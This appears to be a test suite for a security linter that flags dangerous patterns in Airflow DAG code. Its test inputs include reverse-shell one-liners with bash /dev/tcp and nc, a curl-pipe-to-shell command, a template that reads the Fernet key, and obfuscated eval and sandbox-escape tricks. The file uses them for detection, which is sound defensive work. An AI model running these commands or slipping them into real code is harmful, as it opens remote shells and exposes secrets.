import { severitiesOf } from "../support";

const bash = (command: string): string =>
  `from airflow.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command=${JSON.stringify(command)})`;

test.each([
  ["EXEC001", "eval(text)", "error"],
  ["EXEC001", "e = exec\ne(text)", "error"],
  ["EXEC001", "(e := eval)(text)", "error"],
  ["EXEC001", "def f(run=exec): run(text)", "error"],
  ["EXEC001", "list(map(eval, texts))", "error"],
  ["EXEC001", "import builtins as b\nb.exec(text)", "error"],
  ["EXEC001", "__builtins__['ex' + 'ec'](text)", "error"],
  ["EXEC001", "getattr(__builtins__, ''.join(chr(c) for c in [101, 118, 97, 108]))(text)", "error"],
  ["EXEC001", "globals()['__builtins__'].eval(text)", "error"],
  ["EXEC002", "import importlib\nimportlib.import_module(name)", "error"],
  ["EXEC002", "import importlib\nimportlib.import_module('os')", "warning"],
  ["EXEC002", "__import__(name)", "error"],
  ["EXEC002", "import ctypes", "error"],
  ["EXEC002", "from types import FunctionType", "error"],
  ["EXEC002", "import importlib.util", "error"],
  ["EXEC002", "load = __import__", "error"],
  ["EXEC003", "import pickle\npickle.loads(data)", "error"],
  ["EXEC003", "import pandas as pd\npd.read_pickle(path)", "error"],
  ["EXEC003", "import yaml\nyaml.load(text)", "error"],
  ["EXEC003", "import yaml\nyaml.load(text, Loader=yaml.Loader)", "error"],
  ["EXEC003", "import numpy as np\nnp.load(path, allow_pickle=True)", "error"],
  ["EXEC004", "import subprocess\nsubprocess.run(['ls'])", "warning"],
  ["EXEC004", "from os import *\nsystem('ls')", "warning"],
  ["EXEC004", "import os\ngetattr(os, 'sys' + 'tem')('ls')", "warning"],
  ["EXEC004", "import os\nos.__dict__['system']('ls')", "warning"],
  ["EXEC004", "import sys\nsys.modules['os'].system('ls')", "warning"],
  ["EXEC004", "import operator, os\noperator.attrgetter('system')(os)('ls')", "warning"],
  ["EXEC004", "import os\nfor name in ['popen']:\n    getattr(os, name)('ls')", "warning"],
  ["EXEC005", "().__class__.__bases__[0].__subclasses__()", "error"],
  ["EXEC005", "import os\ndef f(name):\n    return getattr(os, name)", "warning"],
  ["EXEC005", "find = getattr", "error"],
  ["EXEC005", "import sys\nsys._getframe().f_globals", "error"],
  ["EXEC006", "import airflow.models\nairflow.models.BaseOperator.execute = f", "error"],
  ["EXEC006", "import os\nsetattr(os, 'system', f)", "error"],
  ["EXEC006", "import sys\nsys.modules['boto3'] = mine", "error"],
  ["EXEC007", bash("pip install thing"), "warning"],
  [
    "EXEC007",
    "from airflow.operators.python import PythonVirtualenvOperator\nPythonVirtualenvOperator(task_id='x')",
    "warning",
  ],
  [
    "EXEC008",
    "from airflow.operators.bash import BashOperator\ndef f(t):\n    BashOperator(task_id='x', bash_command=f'load {t}')",
    "warning",
  ],
  [
    "EXEC008",
    "from airflow.providers.docker.operators.docker import DockerOperator\ndef f(t):\n    DockerOperator(task_id='x', entrypoint=['bash', '-c', f'load {t}'])",
    "warning",
  ],
  [
    "EXEC008",
    "from airflow.providers.cncf.kubernetes.operators.pod import KubernetesPodOperator\ndef f(t):\n    KubernetesPodOperator(task_id='x', cmds=['/bin/sh', '-ec'], arguments=[f'load {t}'])",
    "warning",
  ],
  ["EXEC009", bash("curl https://example.com/x | sh"), "error"],
  ["EXEC009", bash("bash -i >& /dev/tcp/10.0.0.1/80 0>&1"), "error"],
  ["EXEC009", bash("nc -e /bin/sh 10.0.0.1 80"), "error"],
  ["EXEC010", "x = '{{ ti.__class__.__mro__ }}'", "error"],
  ["EXEC010", 'x = \'{{ conf.get("core", "fernet_key") }}\'', "error"],
  ["EXEC010", 'x = \'{{ ""|attr("__class__") }}\'', "error"],
  ["EXEC011", "import os\nfrom airflow import DAG\nDAG('x', user_defined_macros={'os': os})", "error"],
  ["EXEC011", "from airflow import DAG\nDAG('x', user_defined_macros={'f': f})", "info"],
  ["EXEC012", "import os\nos.environ['AIRFLOW__CORE__FERNET_KEY'] = 'x'", "error"],
  ["EXEC012", "import os\nos.environ['MODE'] = 'x'", "info"],
  ["EXEC012", "import os\nos.environ.update(PYTHONPATH='/tmp')", "error"],
  ["EXEC012", "import sys\nsys.path.insert(0, '/tmp')", "warning"],
  ["EXEC013", bash("load {{ dag_run.conf['table'] }}"), "error"],
  ["EXEC013", bash("load {{ params.table }}"), "error"],
  ["IMP001", "import posix", "warning"],
  ["IMP001", "from ....x import y", "error"],
])("%s finds %j", async (rule, text, severity) => {
  expect(await severitiesOf(rule, text)).toContain(severity);
});

test.each([
  ["EXEC001", "model.eval()"],
  ["EXEC001", "import re\nre.compile('x')"],
  ["EXEC001", "import ast\nast.literal_eval('[1]')"],
  ["EXEC001", "def exec(x): return x\nexec(1)"],
  ["EXEC002", "from importlib import metadata\nmetadata.version('pandas')"],
  ["EXEC003", "import yaml\nyaml.safe_load(text)"],
  ["EXEC003", "import yaml\nyaml.load(text, Loader=yaml.SafeLoader)"],
  ["EXEC003", "import json\njson.load(f)"],
  ["EXEC004", "import os\nos.path.join('a', 'b')"],
  ["EXEC004", "from subprocess_tools import run"],
  ["EXEC005", "getattr(self, name)"],
  ["EXEC005", "globals()[dag_id] = dag"],
  ["EXEC005", "class A:\n    def f(self):\n        return self.__class__.__name__"],
  ["EXEC006", "dag.doc_md = __doc__"],
  ["EXEC008", bash("load {{ ds }}")],
  [
    "EXEC008",
    "from airflow.operators.bash import BashOperator\nT = 'a'\nBashOperator(task_id='x', bash_command=f'load {T}')",
  ],
  [
    "EXEC008",
    "from airflow.providers.cncf.kubernetes.operators.pod import KubernetesPodOperator\ndef f(t):\n    KubernetesPodOperator(task_id='x', cmds=['load'], arguments=['--table', t])",
  ],
  [
    "EXEC008",
    "from airflow.providers.cncf.kubernetes.operators.pod import KubernetesPodOperator\nKubernetesPodOperator(task_id='x', cmds=['sh', '-c'], arguments=['load orders'])",
  ],
  ["EXEC009", bash("echo hi | grep h")],
  ["EXEC009", bash("curl https://example.com/x -o x")],
  ["EXEC010", "x = '{{ dag_run.conf.get(\"a\") }} {{ ds }}'"],
  [
    "EXEC013",
    "from airflow.operators.bash import BashOperator\nBashOperator(task_id='x', bash_command='load \"$T\"', env={'T': '{{ params.t }}'})",
  ],
  [
    "IMP001",
    "import json\nfrom airflow.providers.amazon.aws.hooks.s3 import S3Hook\nimport pandas as pd\nfrom payments.tools import f\nfrom . import g",
  ],
])("%s leaves %j alone", async (rule, text) => {
  expect(await severitiesOf(rule, text)).toEqual([]);
});

test("modules that the policy lists may be imported, with what is below them", async () => {
  const text = "import team_lib.clean\nfrom pyspark.sql import SparkSession";
  expect(await severitiesOf("IMP001", text, { imports: ["team_lib.*", "pyspark.sql"] })).toEqual([]);
  expect(await severitiesOf("IMP001", text, { imports: ["pyspark.sql.types"], profile: "strict" })).toEqual([
    "error",
  ]);
});
